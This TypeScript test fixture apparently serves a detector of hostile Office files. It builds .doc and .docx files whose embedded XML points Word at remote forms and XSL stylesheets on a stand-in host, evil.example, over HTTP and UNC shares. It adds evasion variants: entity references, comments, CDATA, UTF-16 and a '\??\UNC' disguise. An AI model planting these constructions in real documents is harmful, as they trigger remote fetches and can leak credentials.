import { docWithData, docxWithData, libraryForm, propertyForm, sources } from '../../../support/office-data';
import { type Hostile, hostileFile } from './hostile';

const page = 'http://evil.example/form.xsn';
const share = '\\\\evil.example\\share\\form.xsn';

/** Data that old Word takes for orders to fetch something. */
const fetching: Record<string, string> = {
  'the form of a library on a page': libraryForm(page),
  'the form of a library on a share': libraryForm(share),
  'the form of a library that counts from elsewhere': libraryForm('form.xsn', 'http://evil.example/'),
  'the form of a library under the root of a server': libraryForm('/forms/form.xsn'),
  'a form on a page': propertyForm(page),
  'a form on a share': propertyForm(share),
  'a form with line ends around its place': propertyForm(`\n${share}\n`),
  'a form with references in its place': propertyForm(page.replace('http', '&#104;ttp')),
  'a form with a comment in its place': propertyForm(page.replace('http', 'ht<!-- -->tp')),
  'a form with its place unparsed': propertyForm(`<![CDATA[${page}]]>`),
  'a form of the first edition': propertyForm(page, ''),
  'a style of sources on a share': sources('\\\\evil.example\\share\\x.XSL'),
  'a style of sources on a page': sources('http://evil.example/x.XSL'),
  'a style of sources on a share in disguise': sources('\\??\\UNC\\evil.example\\share\\x.XSL'),
};

const broken = propertyForm(page.replace('http', 'ht<x/>tp'));
const packed = '<x>&lt;pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"></x>';

export const docxsWithData: Hostile[] = hostiles(hostileFile('docx'), docxWithData);
export const docsWithData: Hostile[] = [
  ...hostiles(hostileFile('doc'), docWithData),
  hostileFile('doc')('whose data say so in UTF-16', docWithData(wide(propertyForm(page))), 'fetched from elsewhere'),
  hostileFile('doc')('whose data are described so', docWithData(propertyForm(page), 'Properties'), 'fetched'),
  hostileFile('doc')('whose data hold a whole document', docWithData(packed), 'packed as text'),
  hostileFile('doc')('whose data have a document type', docWithData('<!DOCTYPE x SYSTEM "x"><x/>'), 'damaged'),
];

function hostiles(hostile: ReturnType<typeof hostileFile>, documentOf: (data: string) => Buffer): Hostile[] {
  return [
    ...Object.entries(fetching).map(([what, data]) =>
      hostile(`with ${what}`, documentOf(data), 'fetched from elsewhere'),
    ),
    hostile('with an element in the place of a form', documentOf(broken), 'damaged'),
  ];
}

function wide(text: string): Buffer {
  return Buffer.from(`\ufeff${text}`, 'utf16le');
}
